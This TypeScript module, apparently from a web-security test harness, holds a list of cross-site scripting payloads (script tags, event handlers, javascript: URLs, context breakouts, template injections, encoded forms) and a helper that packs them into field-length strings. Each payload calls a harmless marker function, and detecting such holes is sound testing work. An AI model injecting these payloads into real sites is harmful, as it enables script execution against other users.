/** The name of the function by which a payload says that it has run. */
export const RAN = "__ran";

const call = `${RAN}(1)`;
/** Texts that run a script where a page takes them for markup, an address, an expression or the inside of a script. */
export const scriptPayloads: readonly string[] = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script src=data:text/javascript,${call}></script>`,
  `<script/x>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `</script><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `<!--<script>--><img src=x onerror=${call}>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}">`,
  `<img/src="x"/onerror=${call}>`,
  `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  `<image src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href=javascript:${call}><text y=9>x</text></a></svg>`,
  `<math><mtext><style><img src=x onerror=${call}></style>`,
  `<body onload=${call}>`,
  `<body onpageshow=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe src="javascript:parent.${call}">`,
  `<object data="javascript:${call}">`,
  `<embed src="javascript:${call}">`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<marquee onstart=${call}>`,
  `<link rel=stylesheet href=x onerror=${call}>`,
  `<style>@import 'javascript:${call}';</style><style onload=${call}></style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="javascript:${call}//">`,
  `<form><button formaction=javascript:${call}>x</button></form>`,
  `<a href="javascript:${call}">x</a>`,
  `<template><script>${call}</script></template><noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  `" autofocus onfocus=${call} x="`,
  `' onmouseover=${call} x='`,
  `javascript:${call}`,
  `[x](javascript:${call})`,
  `![x](x"onerror="${call})`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `';${call};//`,
  `"});${call};//`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  `&lt;img src=x onerror=${call}&gt;`,
  `%3Cimg%20src=x%20onerror=${call}%3E`,
];

/** The payloads in as few texts as a field's length allows, so that a field is filled with all of them in turn. */
export function packs(longest: number): string[] {
  const packed: string[] = [];
  for (const payload of scriptPayloads) {
    if (payload.length > longest) continue;
    const last = packed.at(-1);
    if (last !== undefined && last.length + 1 + payload.length <= longest)
      packed[packed.length - 1] = `${last} ${payload}`;
    else packed.push(payload);
  }
  return packed;
}
